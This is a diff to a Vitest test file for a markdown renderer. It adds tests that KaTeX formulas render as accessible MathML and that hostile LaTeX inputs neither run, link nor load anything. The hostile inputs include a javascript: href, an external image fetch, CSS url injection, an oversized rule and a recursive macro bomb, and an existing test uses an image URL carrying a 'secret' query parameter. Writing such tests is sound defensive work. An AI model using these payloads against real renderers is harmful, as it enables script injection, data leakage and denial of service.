@@ -1,5 +1,5 @@
 import { render } from "@testing-library/react";
-import { describe, expect, it } from "vitest";
+import { describe, expect, it, vi } from "vitest";
 
 import html from "@/testing/hostile/xss-html.json";
 import markdown from "@/testing/hostile/xss-markdown.json";
@@ -86,7 +86,7 @@ describe("images", () => {
   it("are fetched by nothing but a click", () => {
     const container = draw("![a chart](https://elsewhere.example/?d=secret)");
     expect(container.querySelector("img")).toBeNull();
-    expect(container.textContent).toBe("a chart: open image from elsewhere.example");
+    expect(container.textContent).toBe("a chart: load image from elsewhere.example");
   });
 
   it("by reference are treated the same", () => {
@@ -110,5 +110,40 @@ describe("structure", () => {
     expect(container.querySelector("table td")?.textContent).toBe("b");
     expect(container.querySelector("[role=img]")?.getAttribute("aria-label")).toBe("done");
     expect(container.querySelector("pre")?.textContent).toBe("let a;");
+  });
+});
+
+/** Loading the parser is what takes the time. */
+const patience = 10_000;
+
+describe("formulas", () => {
+  it("are MathML that a screen reader can read, and their source can be copied", async () => {
+    const container = draw(String.raw`so \(a_1 < b\) and $$\frac{1}{2}$$ for $5.`);
+    await vi.waitFor(() => expect(container.querySelectorAll("math")).toHaveLength(2), patience);
+    expect(container.querySelector("mfrac")).not.toBeNull();
+    expect(container.querySelector("annotation")?.textContent).toBe("a_1 < b");
+    expect(container.textContent).toContain("for $5.");
+    expect(dangers(container)).toEqual([]);
+  });
+
+  it.each([
+    String.raw`\(\href{javascript:alert(1)}{x}\)`,
+    String.raw`\(\includegraphics{https://elsewhere.example/a.png}\)`,
+    String.raw`\(\htmlData{a=b}{x} \htmlStyle{background:url(//x)}{x}\)`,
+    String.raw`\(\rule{1000em}{1000em} y\)`,
+    String.raw`\(\def\a{\a\a}\a\)`,
+    String.raw`\(\frac{\)`,
+  ])("run, link and load nothing: %s", async (text) => {
+    const container = draw(text);
+    await vi.waitFor(
+      () => expect(container.querySelector(".katex, .katex-error")).not.toBeNull(),
+      patience,
+    );
+    expect(dangers(container)).toEqual([]);
+    expect(container.querySelector("a")).toBeNull();
+    const widths = [...container.querySelectorAll("[width]")].map((one) =>
+      Number.parseFloat(one.getAttribute("width") ?? ""),
+    );
+    expect(Math.max(0, ...widths)).toBeLessThanOrEqual(5);
   });
 });
